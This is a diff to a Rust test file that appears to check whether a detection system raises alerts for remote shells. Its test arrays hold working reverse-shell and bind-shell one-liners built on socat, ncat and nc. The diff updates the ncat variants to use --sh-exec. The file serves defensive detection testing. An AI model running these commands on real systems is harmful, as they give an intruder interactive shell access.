@@ -15,11 +15,11 @@ fn is_held(stage: &Stage, mut hand: Server, script: &str) -> Alerts {
         Ok(hand.said().contains("answer 42").then_some(()))
     });
     obeyed.unwrap_or_else(|error| panic!("{script}: {error:#}: {}\n{}", hand.said(), run.log()));
-    hand.say("ls /nowhere").unwrap();
-    hand.until_says("nowhere").unwrap();
+    hand.say("no-such-program 2>&1").unwrap();
+    hand.until_says("not found").unwrap_or_else(|error| panic!("{script}: {error:#}"));
     hand.say("exit 0").unwrap();
-    // A second one, for a shell within a shell.
-    let _ = hand.say("exit 0");
+    // Some wait for the other side to hang up.
+    drop(hand);
     run.end()
 }
 
@@ -57,7 +57,7 @@ fn a_shell_behind_a_relay_is_told() {
     needs_root!();
     let scripts = [
         "socat TCP:$PEER:4444 EXEC:'bash -i',pty,stderr,setsid,sigint,sane || true",
-        "ncat -e '/bin/bash -i' $PEER 4444 || true",
+        "ncat --sh-exec 'bash -i 2>&1' $PEER 4444 || true",
         "mkfifo f; cat f | sh -i 2>&1 | nc.traditional $PEER 4444 > f || true",
     ];
     for script in scripts {
@@ -93,7 +93,7 @@ fn a_shell_that_waits_for_calls_is_told() {
     needs_root!();
     let scripts = [
         "nc.traditional -l -p 5555 -e /bin/sh || true",
-        "ncat -l 5555 -e '/bin/bash -i' || true",
+        "ncat -l 5555 --sh-exec 'bash -i 2>&1' || true",
         "socat TCP-LISTEN:5555,reuseaddr EXEC:/bin/sh,nofork,stderr || true",
     ];
     for script in scripts {
